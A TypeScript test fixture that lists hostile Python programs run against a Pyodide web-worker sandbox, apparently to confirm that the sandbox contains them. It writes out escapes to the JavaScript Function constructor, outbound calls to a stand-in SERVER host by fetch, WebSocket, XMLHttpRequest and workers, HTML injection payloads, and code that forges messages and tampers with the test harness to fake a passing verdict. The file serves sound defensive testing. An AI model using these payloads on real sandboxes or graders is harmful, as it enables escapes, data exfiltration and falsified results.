/**
 * Hostile programs in Python: what each tries, and what becomes of it. Python has no compartment of its own: from any function of JavaScript that it meets
 * a way leads to all of its worker, so what holds it is the frame alone. `SERVER` is the address of the server that must hear nothing.
 */

import { toRun } from '../attacks/attack.ts';

export interface PythonAttack {
  readonly name: string;
  /** `npm test` runs it: of each kind one, and the one that shows what a program has that has its worker to itself. `npm run attacks` runs all. */
  readonly isCore?: true;
  readonly tries: string;
  readonly code: string;
  /** Lines that it prints. Without them it may end as it likes. */
  readonly prints?: readonly string[];
}

/** Gets from a function of JavaScript to its constructor, which makes code of text. */
const RUN_JS = `
import pyodide_js
def run_js(text):
    return pyodide_js.toPy.constructor.new(text)()
`;

/** Tries each of several things in JavaScript, and prints which of them worked at once. */
const inJavaScript = (attempts: Readonly<Record<string, string>>): string => `${RUN_JS}
worked = []
for name, text in ${JSON.stringify(attempts)}.items():
    try:
        run_js(text)
        worked.append(name)
    except BaseException:
        pass
print('worked:', *worked)
`;

export const PYTHON_ATTACKS: readonly PythonAttack[] = [
  {
    name: 'network-python-modules',
    tries: 'to reach the network by what Python and pyodide bring for it',
    code: `
import socket, urllib.request
from pyodide.http import open_url, pyxhr
tried = {
    'urlopen': lambda: urllib.request.urlopen('SERVER/urlopen').read(),
    'open_url': lambda: open_url('SERVER/open_url').read(),
    'pyxhr': lambda: pyxhr.get('SERVER/pyxhr').text,
    'socket': lambda: socket.create_connection('SERVER'.removeprefix('http://').split(':')).send(b'x'),
}
worked = []
for name, call in tried.items():
    try:
        call()
        worked.append(name)
    except BaseException:
        pass
print('worked:', *worked)
`,
    prints: ['worked:'],
  },
  {
    name: 'network-python-js',
    tries: 'to find what a page has in the module js',
    code: `
import js
print([name for name in ('fetch', 'postMessage', 'document', 'parent', 'localStorage', 'XMLHttpRequest', 'eval', 'self') if hasattr(js, name)])
`,
    prints: ['[]'],
  },
  {
    name: 'network-python-reaches',
    isCore: true,
    tries: 'nothing yet: it shows that it has its worker to itself, as those below do',
    code: `${RUN_JS}
print(run_js('return [typeof self, typeof XMLHttpRequest, typeof postMessage, self.origin].join()'))
`,
    prints: ['object,function,function,null'],
  },
  {
    name: 'network-python-packages',
    tries: 'to load packages',
    code: `
try:
    import micropip
    print('micropip')
except ImportError:
    print('no micropip')
import pyodide_js
pyodide_js.loadPackage('SERVER/package.whl')
pyodide_js.loadPackage('numpy')
`,
    prints: ['no micropip'],
  },
  {
    name: 'network-python-run-js',
    isCore: true,
    tries: 'to reach the network from JavaScript: nothing throws at once, and nothing gets out',
    code: inJavaScript({
      fetch: "fetch('SERVER/fetch')",
      'fetch of the realm': "Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch?.call(self, 'SERVER/fetch-2')",
      socket: "new WebSocket('SERVER/socket'.replace('http', 'ws'))",
      events: "new EventSource('SERVER/events')",
      module: "import('SERVER/module')",
      worker: 'new Worker(URL.createObjectURL(new Blob([\'fetch("SERVER/worker")\'])))',
      'worker elsewhere': "new Worker('SERVER/worker')",
      transport: "new WebTransport('SERVER/transport'.replace('http', 'https'))",
      peer: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + 'SERVER'.slice(7) }] }).createDataChannel('x')",
    }),
  },
  {
    name: 'network-python-at-once',
    tries: 'to reach the network, storage and page from JavaScript in ways that throw when they are refused',
    code: inJavaScript({
      request: "const x = new XMLHttpRequest(); x.open('GET', 'SERVER/request', false); x.send()",
      importScripts: "WorkerGlobalScope.prototype.importScripts.call(self, 'SERVER/scripts')",
      indexedDB: "indexedDB.open('x')",
      localStorage: 'localStorage.setItem("x", "y")',
      document: 'document.title',
      parent: 'parent.document',
      top: 'top.location',
      window: 'window.document',
    }),
    prints: ['worked:'],
  },
  {
    name: 'page-python-storage',
    tries: 'to keep something in caches and the file system of the browser',
    code: inJavaScript({
      caches: "caches.open('x').then((cache) => cache.put('SERVER/kept', new Response('kept')))",
      files: "navigator.storage.getDirectory().then((root) => root.getFileHandle('x', { create: true }))",
      channel: "new BroadcastChannel('loopwise').postMessage('x')",
      notify: "self.registration?.showNotification('x')",
    }),
  },
  {
    name: 'page-python-html',
    isCore: true,
    tries: 'to be taken for HTML',
    code: `
print('<img src="SERVER/image" onerror="document.title = 1">')
raise ValueError('<script>document.title = 2</script><img src="SERVER/image">')
`,
    prints: ['<img src="SERVER/image" onerror="document.title = 1">'],
  },
  {
    name: 'forge-python-messages',
    tries: 'to say something to the page in the name of the worker, and to change what is said',
    code: `${RUN_JS}
run_js('''
  for (const answer of [{ type: 'record', json: '{}' }, { type: 'failure', message: 'forged' }, { type: 'verdict', json: '{"outcome":"passed"}' }, 'forged', null])
    self.postMessage(answer);
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (answer) { post.call(this, { type: 'failure', message: 'forged' }); };
''')
print('honest')
`,
    prints: ['honest'],
  },
  {
    name: 'forge-python-port',
    tries: 'to get hold of the port by the next message that comes in, and to answer for the next program',
    code: `${RUN_JS}
run_js('''
  const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get;
  Object.defineProperty(MessageEvent.prototype, 'data', { get() {
    this.target.postMessage({ type: 'output', json: '[{"text":"forged","t":0,"it":0,"task":null}]' });
    return data.call(this);
  } });
  const stringify = JSON.stringify;
  JSON.stringify = (value, ...rest) => stringify(value, ...rest)?.replaceAll('after', 'forged');
''')
print('armed')
`,
    prints: ['armed'],
  },
  {
    name: 'forge-python-harness',
    isCore: true,
    tries: 'to answer for the next program by the harness that watches it',
    code: `
import builtins, json, sys
import watch, record
json.dumps = lambda *given, **named: '{"text": "forged"}'
builtins.print = lambda *given, **named: None
sys.modules['process']._as_process = lambda *given: '{}'
open('/loopwise/watch.py', 'w').write('raise ValueError("forged")')
open('/left-behind', 'w').write('x')
`,
  },
  {
    name: 'break-python-exit',
    tries: 'to end the interpreter',
    code: `
import os
os._exit(1)
`,
  },
  {
    name: 'break-python-modules',
    tries: 'to leave an interpreter without its modules',
    code: `
import sys
sys.modules.clear()
sys.meta_path.clear()
sys.path.clear()
`,
  },
  {
    name: 'break-python-memory',
    tries: 'to write where nothing is',
    code: `
import ctypes
ctypes.memset(4, 255, 2**20)
`,
  },
  {
    name: 'break-python-close',
    isCore: true,
    tries: 'to close the worker that it runs in, and to go on for ever',
    code: `${RUN_JS}
run_js('self.close()')
while True:
    pass
`,
  },
];

/** The attacks in Python to run now. */
export const pythonAttacksToRun = (): readonly PythonAttack[] =>
  toRun(PYTHON_ATTACKS, (all) => all.filter(({ isCore }) => isCore));
